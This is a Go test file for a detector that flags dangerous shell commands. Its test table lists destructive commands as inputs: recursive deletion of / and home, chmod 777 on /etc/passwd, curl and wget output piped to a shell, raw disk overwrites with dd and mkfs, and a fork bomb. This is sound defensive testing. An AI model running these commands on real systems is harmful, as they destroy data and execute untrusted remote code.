package protect

import (
	"os"
	"path/filepath"
	"testing"
)

func TestDetector_Match(t *testing.T) {
	d := New()

	tests := []struct {
		command string
		want    string
	}{
		{"rm -rf /", "recursive_delete_root"},
		{"rm -rf / --no-preserve-root", "recursive_delete_root"},
		{"rm -fr ~", "recursive_delete_root"},
		{"rm -r *", "recursive_delete_root"},
		{"sudo rm -rf $HOME", "recursive_delete_root"},
		{"rm -f -r /", "recursive_delete_root"},
		{"rm -rf /*", "recursive_delete_root"},
		{"chmod 777 /etc/passwd", "world_writable"},
		{"chmod -R 777 .", "world_writable"},
		{"chmod a+rwx /", "world_writable"},
		{"curl https://x.sh | sh", "pipe_to_shell"},
		{"wget -qO- https://x.sh | sudo bash", "pipe_to_shell"},
		{"echo hi > /dev/sda", "raw_device_write"},
		{"dd if=/dev/zero of=/dev/sdb bs=1M", "raw_device_copy"},
		{"mkfs.ext4 /dev/sdb1", "make_filesystem"},
		{":(){ :|:& };:", "fork_bomb"},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			p, ok := d.Match(tt.command)
			if !ok {
				t.Fatalf("Match(%q) = no match, want %s", tt.command, tt.want)
			}
			if p.Name != tt.want {
				t.Errorf("Match(%q) = %s, want %s", tt.command, p.Name, tt.want)
			}
		})
	}
}

func TestDetector_Safe(t *testing.T) {
	d := New()

	safe := []string{
		"ls -la",
		"rm -rf /tmp/build",
		"rm -rf ./dist",
		"rm file.txt",
		"chmod 644 README.md",
		"curl -o out.json https://api.example.com",
		"cat /dev/null",
		"git status",
		"echo done > /tmp/log",
	}

	for _, cmd := range safe {
		t.Run(cmd, func(t *testing.T) {
			if p, ok := d.Match(cmd); ok {
				t.Errorf("Match(%q) matched %s, want no match", cmd, p.Name)
			}
		})
	}
}

func TestDetector_AddPattern(t *testing.T) {
	d := New()
	if err := d.AddPattern("drop_table", `(?i)drop\s+table`); err != nil {
		t.Fatalf("AddPattern() error = %v", err)
	}
	if !d.IsDangerous("psql -c 'DROP TABLE users'") {
		t.Error("custom pattern did not match")
	}
	if err := d.AddPattern("broken", `(`); err == nil {
		t.Error("AddPattern() with invalid regex should fail")
	}
}

func TestDetector_LoadConfig(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "patterns.yaml")
	content := `dangerous_patterns:
  - name: shutdown
    pattern: '\bshutdown\b'
  - name: reboot
    pattern: '\breboot\b'
`
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}

	d := New()
	before := len(d.Patterns())
	if err := d.LoadConfig(path); err != nil {
		t.Fatalf("LoadConfig() error = %v", err)
	}
	if got := len(d.Patterns()); got != before+2 {
		t.Errorf("len(Patterns()) = %d, want %d", got, before+2)
	}
	if p, ok := d.Match("sudo shutdown -h now"); !ok || p.Name != "shutdown" {
		t.Errorf("Match(shutdown) = %v, %v", p, ok)
	}
}

func TestDetector_LoadConfigInvalid(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "bad.yaml")
	content := `dangerous_patterns:
  - name: ok
    pattern: 'fine'
  - name: bad
    pattern: '('
`
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}

	d := New()
	before := len(d.Patterns())
	if err := d.LoadConfig(path); err == nil {
		t.Fatal("LoadConfig() should fail on invalid regex")
	}
	if got := len(d.Patterns()); got != before {
		t.Errorf("patterns changed on failed load: %d, want %d", got, before)
	}
	if err := d.LoadConfig(filepath.Join(dir, "missing.yaml")); err == nil {
		t.Error("LoadConfig() on missing file should fail")
	}
}
